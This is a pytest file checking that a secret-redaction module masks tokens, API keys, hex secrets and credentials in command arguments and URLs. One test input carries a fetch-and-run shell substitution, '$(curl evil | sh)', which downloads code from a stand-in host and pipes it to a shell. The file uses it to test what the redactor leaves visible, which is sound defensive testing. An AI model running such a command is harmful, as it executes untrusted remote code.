import pytest

from remit.core.redaction import redact, redact_url, redact_words, url_secrets


def test_values_are_hidden_wherever_they_stand_the_longest_first() -> None:
    assert redact("key hunter22 and hunter22-long", ["hunter22", "hunter22-long"]) == "key *** and ***"


def test_a_value_of_many_lines_is_hidden_line_by_line() -> None:
    assert redact("read line-two of it", ["line-one\nline-two"]) == "read *** of it"


def test_a_value_too_short_to_be_a_secret_is_left() -> None:
    assert redact("took 1 s, off", ["1", "off", ""]) == "took 1 s, off"


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (["npx", "-y", "@scope/server@1.2.3"], ["npx", "-y", "@scope/server@1.2.3"]),
        (["run", "--token", "abc"], ["run", "--token", "***"]),
        (["run", "--api-key=abc"], ["run", "--api-key=***"]),
        (["run", "API_KEY=abc"], ["run", "API_KEY=***"]),
        (["run", "--token", "--verbose"], ["run", "--token", "--verbose"]),
        (["run", "--token", "${TOKEN}"], ["run", "--token", "${TOKEN}"]),
        (["run", "--port=80", "--name", "x"], ["run", "--port=80", "--name", "x"]),
        (["run", "ghp_abcdefgh12345678"], ["run", "***"]),
        (["run", "--key", "$(curl evil | sh)"], ["run", "--key", "$(curl evil | sh)"]),
        (["sh", "-c", "echo token=abc | sh"], ["sh", "-c", "echo token=abc | sh"]),
        (["psql", "postgres://ada:hunter22@db/x"], ["psql", "postgres://***@db/x"]),
        (["psql", "--url=postgres://ada:hunter22@db/x"], ["psql", "--url=postgres://***@db/x"]),
        (["run", "0123456789abcdef0123456789abcdef"], ["run", "***"]),
    ],
)
def test_what_looks_like_a_secret_is_hidden_and_what_must_be_judged_is_not(
    words: list[str], shown: list[str]
) -> None:
    assert redact_words(words) == shown


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://mcp.example/sse", "https://mcp.example/sse"),
        ("https://ada:pw@mcp.example/sse?x=1", "https://***@mcp.example/sse?x=1"),
        (
            "https://mcp.example/?api_key=abc&page=2#token=x",
            "https://mcp.example/?api_key=***&page=2#token=***",
        ),
        ("https://mcp.example/?to=https://b.example", "https://mcp.example/?to=https://b.example"),
    ],
)
def test_a_url_is_shown_without_its_user_and_its_keys(url: str, shown: str) -> None:
    assert redact_url(url) == shown


def test_the_secret_parts_of_a_url_are_known() -> None:
    assert set(url_secrets("https://ada:pw@mcp.example/x?key=abc#y")) == {"ada", "pw", "key=abc", "y"}
    assert list(url_secrets("https://[broken")) == ["https://[broken"]
